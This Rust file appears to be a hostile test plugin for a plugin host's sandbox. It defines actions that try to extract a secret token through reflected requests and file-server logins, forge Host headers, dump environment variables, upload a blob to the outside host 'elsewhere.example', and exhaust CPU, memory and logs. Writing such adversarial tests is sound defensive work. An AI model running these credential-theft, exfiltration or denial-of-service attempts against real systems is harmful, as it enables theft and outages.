//! A hostile plugin for the sandbox tests. Each action is one attack; the
//! host must end that call with a clear error and keep serving.

use patchbay_sdk::http::HttpError;
use patchbay_sdk::prelude::*;

/// The attacker.
pub struct Hostile;

#[inline(never)]
fn recurse(depth: u64, sink: &mut [u64; 64]) -> u64 {
    sink[(depth % 64) as usize] = depth;
    if depth == u64::MAX {
        0
    } else {
        recurse(depth + 1, sink) + sink[0]
    }
}

/// What one request brought back, everything the plugin can read of it.
fn readable(sent: core::result::Result<Response, HttpError>) -> serde_json::Value {
    match sent {
        Ok(response) => serde_json::json!({
            "status": response.status,
            "headers": response.headers.iter().map(|h| (h.name.clone(), h.value.clone())).collect::<Vec<_>>(),
            "body": String::from_utf8_lossy(&response.body),
        }),
        Err(error) => serde_json::json!({ "error": format!("{error:?}") }),
    }
}

/// Makes an upstream that reflects its request (`{base}/reflect`) echo the
/// connection's `token` every way the host could have put it in: the plugin
/// must get back none of it.
fn reflect() -> Result<String> {
    let base = config::require("base")?;
    let reflect = format!("{base}/reflect");
    let mut seen = Vec::new();
    for chunk in [1, 5, 4096] {
        let attempts = [
            Request::get(format!("{reflect}?chunk={chunk}&q={{{{secret.token}}}}")),
            Request::get(format!("{base}/reflect/{{{{secret.token}}}}?chunk={chunk}")),
            Request::get(format!("{reflect}?chunk={chunk}")).header("x-api-key", "{{secret.token}}"),
            Request::get(format!("{reflect}?chunk={chunk}")).header("x-debug", "Token {{secret.token}} please"),
            Request::get(format!("{reflect}?chunk={chunk}")).basic_auth("user", "token"),
            Request::get(format!("{reflect}?chunk={chunk}")).bearer_auth("token"),
            Request::get(format!("{reflect}?chunk={chunk}")).query_auth("api_key", "token"),
            Request::post(format!("{reflect}?chunk={chunk}"))
                .header("x-api-key", "{{secret.token}}")
                .body(b"a body of the plugin's own".to_vec()),
        ];
        for request in attempts {
            seen.push(readable(request.no_retry().send_raw()));
        }
    }
    Ok(serde_json::Value::Array(seen).to_string())
}

/// Tries to address another virtual host of the upstream's front end.
fn forge_host() -> Result<String> {
    let base = config::require("base")?;
    let mut seen = Vec::new();
    for (name, value) in [
        ("Host", "admin.internal"),
        ("host", "admin.internal"),
        ("X-Forwarded-Host", "admin.internal"),
        ("Transfer-Encoding", "chunked"),
        ("Proxy-Authorization", "Basic eDp5"),
    ] {
        seen.push(readable(
            Request::get(format!("{base}/echo"))
                .header(name, value)
                .no_retry()
                .send_raw(),
        ));
    }
    Ok(serde_json::Value::Array(seen).to_string())
}

/// Tries to get the password of a file server (the `token` credential) by
/// every door the file-transfer interface has: reading it, sending it as
/// the user name so that the refusal echoes it, sending a login in clear.
/// `base` is the server (`sftp://` or `ftp://`), `host_key` pins an SSH key.
fn steal_login() -> Result<String> {
    use patchbay_sdk::files::{FileServer, Login, Protocol};
    let base = config::require("base")?;
    let login = |user: &str, password: Option<&str>| Login {
        user_field: user.into(),
        password_field: password.map(str::to_string),
        private_key_field: None,
    };
    let protocols: &[Protocol] = if base.starts_with("sftp://") {
        &[Protocol::Sftp]
    } else {
        &[Protocol::FtpExplicitTls, Protocol::Ftp]
    };
    let mut seen = vec![format!("{:?}", config::get("token"))];
    for protocol in protocols {
        for login in [
            login("token", Some("token")),
            login("token", None),
            login("user", Some("token")),
            login("user", Some("user")),
        ] {
            let server = FileServer::new(base.trim_end_matches('/'), *protocol)
                .login(login)
                .host_key_setting("host_key");
            seen.push(format!("{protocol:?}: {:?}", server.list_dir("/")));
        }
    }
    Ok(serde_json::Value::from(seen).to_string())
}

fn run(action: &str) -> Result<String> {
    Ok(match action {
        "reflect" => reflect()?,
        "steal-login" => steal_login()?,
        "forge-host" => forge_host()?,
        "trickle" => {
            let base = config::require("base")?;
            readable(Request::get(format!("{base}/trickle/100/400")).no_retry().send_raw()).to_string()
        }
        "ok" => "fine".into(),
        "spin" => {
            let mut x: u64 = 1;
            loop {
                x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
            }
        }
        "memory-bomb" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![0xAB; 16 * 1024 * 1024]);
                std::hint::black_box(&hoard);
            }
        }
        "recursion" => {
            let mut sink = [0u64; 64];
            recurse(0, &mut sink).to_string()
        }
        "huge-return" => "x".repeat(200 * 1024 * 1024),
        // Allocates and frees 16 MiB 32 times over (512 MiB in all): within
        // 64 MiB only if a call's own frees are not skipped.
        "churn" => {
            let mut sum = 0u64;
            for round in 0..32u8 {
                let block = vec![round; 16 * 1024 * 1024];
                sum += u64::from(std::hint::black_box(&block)[block.len() - 1]);
            }
            format!("churned {sum}")
        }
        "panic" => panic!("the hostile plugin panics on purpose"),
        "flood-log" => {
            for i in 0..20_000 {
                log::info(&format!("flood {i}"));
            }
            "logged".into()
        }
        "flood-kv" => {
            for i in 0.. {
                kv::set(&format!("key-{i}"), b"value", None)?;
            }
            unreachable!()
        }
        "flood-http" => {
            let base = config::require("base")?;
            for _ in 0..10_000 {
                Request::get(format!("{base}/ping")).no_retry().send()?;
            }
            "sent".into()
        }
        "log-fields-bomb" => {
            let value = "v".repeat(64 * 1024);
            let keys: Vec<String> = (0..200).map(|i| format!("field-{i}")).collect();
            let fields: Vec<(&str, &str)> = keys.iter().map(|k| (k.as_str(), value.as_str())).collect();
            for _ in 0..50 {
                log::write(log::Level::Info, "bomb", &fields);
            }
            "logged".into()
        }
        "digest-spin" => {
            let data = vec![7u8; 8 * 1024 * 1024];
            for _ in 0..2000 {
                crypto::digest(crypto::HashAlgorithm::Sha256, &data);
            }
            "hashed".into()
        }
        "env" => format!("{:?}", std::env::vars().collect::<Vec<_>>()),
        "args" => format!("{:?}", std::env::args().collect::<Vec<_>>()),
        "exit" => std::process::exit(3),
        other => return Err(Error::Unsupported(format!("no attack {other:?}"))),
    })
}

impl Actions for Hostile {
    fn list_actions() -> Vec<ActionSpec> {
        Vec::new()
    }

    fn execute(name: String, _input: Json) -> Result<Json> {
        run(&name).map(|out| serde_json::Value::String(out).to_string())
    }
}

impl Connector for Hostile {
    fn test_connection() -> Result<ConnectionTest> {
        Ok(ConnectionTest {
            success: true,
            message: "hostile".into(),
            details: "{}".into(),
        })
    }
}

/// Attacks on blobs, chosen by the name of the file to save.
fn abuse_blob(attack: &str, content: &Blob) -> Result<String> {
    Ok(match attack {
        // Hoards slices until the host refuses one.
        "hoard-slices" => {
            let mut hoard = Vec::new();
            let refusal = loop {
                match content.slice(0, 1) {
                    Ok(slice) => hoard.push(slice),
                    Err(error) => break format!("{error:?}"),
                }
                if hoard.len() > 100_000 {
                    break "never refused".into();
                }
            };
            serde_json::json!({ "held": hoard.len(), "refusal": refusal }).to_string()
        }
        // Reads past the end, asks for everything at once, cuts outside.
        "peek-beyond" => {
            let size = content.size();
            serde_json::json!({
                "past-the-end": format!("{:?}", content.read(size + 1, 10)),
                "all-at-once": content.read(0, u32::MAX).map(|bytes| bytes.len()).unwrap_or(0),
                "slice-outside": format!("{:?}", content.slice(size - 1, 5).err()),
                "slice-overflow": format!("{:?}", content.slice(u64::MAX, 2).err()),
            })
            .to_string()
        }
        // A body in the request and a blob beside it; a blob to a host
        // outside the grant.
        "smuggle" => {
            let base = config::require("base")?;
            let both = Request::put(format!("{base}/upload")).body("inline").send_blob(content);
            let elsewhere = Request::put("https://elsewhere.example/upload").send_blob(content);
            serde_json::json!({
                "body-and-blob": format!("{:?}", both.err()),
                "elsewhere": format!("{:?}", elsewhere.err()),
            })
            .to_string()
        }
        other => return Err(Error::Unsupported(format!("no blob attack {other:?}"))),
    })
}

impl BlobStorage for Hostile {
    fn save_blob(name: String, content: &Blob) -> Result<String> {
        abuse_blob(&name, content)
    }
}

patchbay_sdk::export!(Hostile: actions, blob_storage);
